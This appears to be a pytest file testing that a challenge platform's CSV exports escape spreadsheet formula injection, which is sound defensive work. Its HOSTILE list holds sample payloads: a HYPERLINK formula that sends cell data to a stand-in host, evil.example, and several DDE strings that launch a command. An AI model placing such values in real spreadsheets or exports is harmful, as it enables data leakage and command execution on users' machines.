"""No cell of a CSV the platform writes can run as a spreadsheet formula (OWASP CSV injection).

The oracle is the standard `csv` module reading the file back: a hostile cell must come back with a
leading `'`, a plain number exactly as written."""
import csv
import io
import pathlib
import re
from datetime import timedelta

import pytest
import time_machine

from govchallenge.core import csvsafe
from govchallenge.extensions import db
from govchallenge.results import documents
from tests.support import factories
from tests.support.results_factories import judged_challenge, publish

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
]
SAFE_TEXT = ["Team Alpha", "Ομάδα Αθήνα", "Zespół Łódź", "团队", "", "a=b", "1-2 teams", "'quoted"]
NUMBERS = ["-1.5", "+3", "12.500000", "-0.000001", "2e-4", "-7E+2", ".5", "0"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_could_start_a_formula_is_prefixed(cell):
    assert csvsafe.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", SAFE_TEXT + NUMBERS + [1, -1.5, None])
def test_plain_text_and_numbers_are_left_alone(cell):
    assert csvsafe.neutralise(cell) == cell


def _read(text):
    return list(csv.DictReader(io.StringIO(text)))


def _results_csv(client, team_names):
    judged = judged_challenge(entries=len(team_names))
    for team, name in zip(judged.teams, team_names):
        team.name = name
    publish(judged)
    db.session.commit()
    response = client.get(f"/challenges/{judged.challenge.slug}/results.csv")
    assert response.status_code == 200
    return _read(response.get_data(as_text=True))


def _entries_export_csv(client, team_names):
    from tests.conftest import login

    officer = factories.make_user()
    challenge = factories.make_challenge(host=factories.make_public_body(officer=officer))
    for name in team_names:
        factories.make_submission(factories.make_team(challenge, name=name), title=name)
    db.session.commit()
    host = login(client, officer)
    with time_machine.travel(challenge.stages[0].closes_at + timedelta(minutes=1)):
        location = host.post(f"/entries/hosts/stages/{challenge.stages[0].id}/export").headers["Location"]
        job_id = int(location.rsplit("/", 1)[1])
        response = host.get(f"/entries/hosts/exports/{job_id}/csv")
    assert response.status_code == 200
    return _read(response.get_data().decode("utf-8-sig"))


# Every CSV the platform writes, fetched as a user fetches it.
CSV_EXPORTS = {"public results": _results_csv, "hosts' entries export": _entries_export_csv}


@pytest.mark.parametrize("export", CSV_EXPORTS)
def test_every_csv_neutralises_a_hostile_team_name_and_keeps_safe_ones(app, client, export):
    names = HOSTILE[:6] + SAFE_TEXT[1:4]
    rows = CSV_EXPORTS[export](client, names)
    got = sorted(row["team"] for row in rows)
    expected = sorted(csvsafe.neutralise(name) for name in names)
    assert got == expected
    assert all(not cell.startswith(csvsafe.FORMULA_STARTS) or csvsafe.PLAIN_NUMBER.fullmatch(cell)
               for row in rows for cell in row.values() if cell)


def test_results_numbers_stay_numbers_even_negative():
    document = {
        "challenge": {"main_language": "en"},
        "criteria": [{"id": "1"}],
        "entries": [{"entry": "x1", "team": "=1+1", "title": "-minus", "place": 1, "score": -1.5, "raw_score": -0.25,
                     "interval": [1, 2], "passed_thresholds": True, "reviews": [{}], "criteria": {"1": -3.0},
                     "awards": [{"en": "@home"}]}],
    }
    (row,) = _read(documents.to_csv(document))
    assert (row["score"], row["raw_score"], row["criterion_1"]) == ("-1.500000", "-0.250000", "-3.000000")
    assert (row["team"], row["title"], row["awards"]) == ("'=1+1", "'-minus", "'@home")


def test_no_module_writes_csv_around_the_safe_writer():
    """A new export must use core.csvsafe.writer: any other csv writer in the package is a finding."""
    package = pathlib.Path(csvsafe.__file__).resolve().parents[1]
    offenders = [
        str(path.relative_to(package)) for path in package.rglob("*.py")
        if path.name != "csvsafe.py" and re.search(r"csv\.(writer|DictWriter)\b|from csv import", path.read_text())
    ]
    assert offenders == []
